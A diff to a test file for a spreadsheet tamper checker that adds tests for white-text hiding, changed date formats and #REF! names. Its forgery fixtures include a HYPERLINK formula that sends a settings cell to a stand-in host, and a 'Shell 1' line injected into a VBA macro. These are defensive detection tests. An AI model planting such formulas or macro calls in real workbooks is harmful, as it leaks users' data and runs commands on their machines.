@@ -4,7 +4,7 @@ formulas of locked data, not only at values."""
 from __future__ import annotations
 
 import pytest
-from openpyxl.styles import Font
+from openpyxl.styles import Color, Font
 
 from kinerja_xl.domain import names as N
 from tests.conftest import named_cells
@@ -51,9 +51,9 @@ def hide_column(name, c):
     return edit
 
 
-def white_text(name, r, c):
+def white_text(name, r, c, color="FFFFFFFF"):
     def edit(wb):
-        named_cells(wb, name)[r][c].font = Font(color="FFFFFFFF")
+        named_cells(wb, name)[r][c].font = Font(color=color)
     return edit
 
 
@@ -85,6 +85,8 @@ def edit_name_map(wb):
     (hide_row(N.LOG, 1), "Baris sel 'Log'!A3"),
     (hide_column("indikator", 9), "Kolom sel '3 Input Data'!J13 (Realisasi TW IV"),
     (white_text("indikator", 1, 5), "Teks sel '3 Input Data'!F14 (Target, baris 2"),
+    (white_text(N.record(1), 0, 0, Color(theme=0)), "Teks sel '1 Disposisi'!B7"),     # "White, Background 1"
+    (white_text(N.record(1), 0, 0, Color(indexed=9)), "Teks sel '1 Disposisi'!B7"),    # the legacy palette's white
     (formula("indikator", 0, 9, "=80+5"), "Sel '3 Input Data'!J13 (Realisasi TW IV, baris 1 Data Input Kinerja Organisasi) berisi rumus"),
     (formula(N.LOG, 1, 9, '=HYPERLINK("http://x/?"&Pengaturan!B10,"lihat")'), "Sel 'Log'!J3"),
     (extra_name, "Nama 'indikator_asli'"),
@@ -101,6 +103,13 @@ def test_forgeries_in_what_a_reader_sees_are_found_and_named(cli, closed, edit, 
 def test_a_date_format_spelled_the_way_libreoffice_writes_it_is_no_finding(cli, closed):
     tamper(closed, number_format("validasi_tanggal", 0, 0, "dd\\-mm\\-yyyy"))
     assert cli("check", closed).code == 0
+
+
+def test_a_sealed_date_may_not_change_its_format(cli, closed):
+    """mm-dd-yyyy prints 1 October as 10-01: a date's format is part of what was sealed."""
+    tamper(closed, number_format("disposisi_tanggal", 0, 0, "mm-dd-yyyy"))
+    r = cli("check", closed)
+    assert r.code == 1 and "Format angka sel '1 Disposisi'!B13" in r.out, r.out
 
 
 def test_a_text_cell_may_carry_any_format_that_does_not_forge(cli, closed):
@@ -165,3 +174,13 @@ def test_a_module_fingerprint_ignores_what_writers_change_and_nothing_else():
     assert code(ours) == code(libreoffice)
     assert code(ours) != code(ours.replace('"Halo"', '"halo"'))        # text in strings is what it says
     assert code(ours) != code(ours.replace("End Sub", "Shell 1\r\nEnd Sub"))
+
+
+def test_a_name_excel_turned_into_ref_error_is_a_finding_not_a_crash(cli, closed):
+    """Excel writes #REF! for a name whose rows or sheet were deleted."""
+    def broken(wb):
+        wb.defined_names[N.META_CODE].attr_text = "#REF!"
+        wb.defined_names["reviu"].attr_text = "'4 Verifikasi'!#REF!"
+    tamper(closed, broken)
+    r = cli("check", closed)
+    assert r.code == 1 and "Nama 'meta_kode' menunjuk ke #REF!" in r.out and "Nama 'reviu'" in r.out, r.out + r.err
